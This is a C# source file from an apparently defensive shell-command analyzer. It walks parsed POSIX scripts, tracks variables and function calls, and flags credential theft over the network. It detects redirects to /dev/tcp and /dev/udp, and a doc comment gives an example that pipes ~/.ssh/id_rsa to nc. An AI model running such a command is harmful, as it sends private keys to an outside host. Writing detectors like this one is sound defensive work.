using Palisade.Core.Analyzers.Commands.Posix;

namespace Palisade.Core.Analyzers.Commands;

/// <summary>Walking a parsed POSIX script: lists, pipelines, compound commands, functions, assignments.</summary>
public sealed partial class CommandWalker
{
    /// <summary>What a script (or a substitution) did, what it prints when that is a known literal, and how rules read it.</summary>
    internal readonly record struct ScriptResult(CommandFacts Facts, string? Value, string Canon);

    /// <param name="substitution">A substitution's value and canonical text are needed by the word around it; a top-level script's are not.</param>
    internal ScriptResult WalkScript(ShellScript script, bool substitution = false)
    {
        var facts = new CommandFacts();
        string? value = null;
        var canon = substitution ? new List<string>() : null;
        foreach (var item in script.Items)
        {
            for (var i = 0; i < item.Pipelines.Count; i++)
            {
                var pipeline = item.Pipelines[i];
                var stages = new List<CommandFacts>();
                foreach (var command in pipeline.Commands) stages.Add(WalkCommand(command));
                var span = Span(pipeline.Start, pipeline.End);
                var pipeFacts = FinishPipeline(stages, span.Start, span.Length);
                AfterCommand(pipeFacts);
                facts.Merge(pipeFacts);
                if (canon is null) continue;
                canon.Add(string.Join(" | ", stages.Select(s => s.Effective is null ? "…" : Render(s.Effective, withRedirects: false))));
                // `which python || which python3` prints what its first alternative prints.
                if (script.Items.Count == 1 && i == 0 && item.Ops.All(op => op == "||") && stages.All(s => s.Effective is not null))
                    value = StaticEvaluator.Evaluate(stages.Select(s => s.Effective!).ToList(), Limits.MaxDecodedChars);
            }
        }
        return new ScriptResult(facts, value, canon is null ? "" : string.Join(" ; ", canon));
    }

    private CommandFacts WalkCommand(ShellCommand command)
    {
        switch (command)
        {
            case SimpleCommand simple:
                return WalkSimple(simple);
            case FunctionDefinition function:
                var bodyFacts = WalkCommand(function.Body);
                var span = Span(function.Start, function.End);
                Form.Add("func", FunctionShape.Describe(function), span.Start, span.Length);
                if (function.Name.Length > 0 && _functions.Count < 64) _functions[function.Name] = function.Body;
                return bodyFacts;
            case CompoundCommand compound:
                var facts = new CommandFacts();
                var words = new WordExpansion(this, facts);
                foreach (var w in compound.Words) words.Fields(w);
                foreach (var body in compound.Bodies) facts.Merge(WalkScript(body).Facts);
                var cspan = Span(compound.Start, compound.End);
                var redirects = compound.Redirects.Select(r => words.Redirect(r)).ToList();
                if (redirects.Count > 0)
                {
                    foreach (var effect in FileEffects.OfRedirects(redirects)) File(effect, facts, cspan.Start, cspan.Length);
                    if (redirects.Any(r => r.Target.StartsWith("/dev/tcp/", StringComparison.Ordinal) || r.Target.StartsWith("/dev/udp/", StringComparison.Ordinal)))
                    {
                        facts.SendsNetwork = true;
                        Form.Add("cmd", "{ … } " + string.Join(' ', redirects.Select(r => r.Canonical)), cspan.Start, cspan.Length);
                    }
                    if (facts.ReadsSecret && facts.SendsNetwork) Flow("credential-exfil redirect", cspan.Start, cspan.Length);
                }
                return facts;
            default:
                return CommandFacts.None;
        }
    }

    private CommandFacts WalkSimple(SimpleCommand simple)
    {
        var span = Span(simple.Start, simple.End);
        var fromWords = new CommandFacts();
        var words = new WordExpansion(this, fromWords);
        foreach (var assignment in simple.Assignments)
        {
            var (value, canon, known) = assignment.Value is null ? ("", "", true) : words.Joined(assignment.Value);
            if (simple.Words.Count == 0) SetVariable(assignment.Name, known ? value : null, assignment.Append);
            Form.Add("set", $"{assignment.Name}={canon}", span.Start, span.Length);
        }
        var argv = new List<string>(simple.Words.Count);
        var canonArgs = new List<string>(simple.Words.Count);
        foreach (var word in simple.Words) words.AddFields(word, argv, canonArgs);
        IReadOnlyList<RedirectSpec> redirects = simple.Redirects.Count == 0 ? [] : simple.Redirects.Select(words.Redirect).ToList();
        var command = new ArgvCommand(argv, canonArgs, redirects);
        if (argv.Count == 0 && redirects.Count == 0) return fromWords;
        Builtins(command, span);
        var facts = VisitCommand(command, span.Start, span.Length);
        facts.Merge(fromWords);
        if (argv.Count > 0 && _functions.TryGetValue(argv[0], out var body)) facts.Merge(CallFunction(argv, body));
        if (facts.ReadsSecret && facts.SendsNetwork) Flow("credential-exfil " + (facts.Effective?.Program ?? command.Program), span.Start, span.Length);
        return facts;
    }

    /// <summary><c>export A=b</c>, <c>declare A=b</c>, <c>unset A</c>, <c>alias x='…'</c>: what they do to later words of the line.</summary>
    private void Builtins(ArgvCommand c, (int Start, int Length) span)
    {
        switch (c.Program)
        {
            case "export" or "declare" or "typeset" or "local" or "readonly":
                foreach (var a in c.Args)
                {
                    var eq = a.IndexOf('=');
                    if (eq <= 0 || !ShellParser.IsName(a.AsSpan(0, eq))) continue;
                    SetVariable(a[..eq], a[(eq + 1)..], append: false);
                    Form.Add("set", $"{a[..eq]}={ArgvNormalizer.Escape(a[(eq + 1)..])}", span.Start, span.Length);
                }
                break;
            case "unset":
                foreach (var a in c.Args.Where(a => !a.StartsWith('-'))) _variables.Remove(a);
                break;
            case "alias":
                foreach (var a in c.Args)
                {
                    var eq = a.IndexOf('=');
                    if (eq > 0) WalkNested(a[(eq + 1)..], ScriptDialect.Posix, span.Start, span.Length);
                }
                break;
        }
    }

    /// <summary>
    /// A call of a function the line defined: its body is walked again with <c>$1</c>… bound to the call's arguments,
    /// so <c>f(){ cat "$1" | nc h 1; }; f ~/.ssh/id_rsa</c> reads what it reads. Not into a function already being
    /// called (recursion), and a bounded number of times per line.
    /// </summary>
    private CommandFacts CallFunction(List<string> argv, ShellCommand body)
    {
        var name = argv[0];
        if (_calling.Contains(name) || ++_functionCalls > Limits.MaxNestedScripts * 4) return CommandFacts.None;
        string[] names = ["1", "2", "3", "4", "5", "6", "7", "8", "9", "@", "*"];
        var saved = names.Select(Variable).ToArray();
        for (var i = 0; i < 9; i++) SetVariable(names[i], i + 1 < argv.Count ? argv[i + 1] : null, append: false);
        var all = string.Join(' ', argv.Skip(1));
        SetVariable("@", all, append: false);
        SetVariable("*", all, append: false);
        _calling.Add(name);
        try
        {
            return WalkCommand(body);
        }
        finally
        {
            _calling.Remove(name);
            for (var i = 0; i < names.Length; i++) SetVariable(names[i], saved[i], append: false);
        }
    }

    private void SetVariable(string name, string? value, bool append)
    {
        if (value is null) { _variables.Remove(name); return; }
        if (append) value = _variables.GetValueOrDefault(name, "") + value;
        if (value.Length > Limits.MaxDecodedChars) { _variables.Remove(name); return; }
        if (_variables.Count < 1024 || _variables.ContainsKey(name)) _variables[name] = value;
    }

    internal string? Variable(string name) => _variables.GetValueOrDefault(name);
}
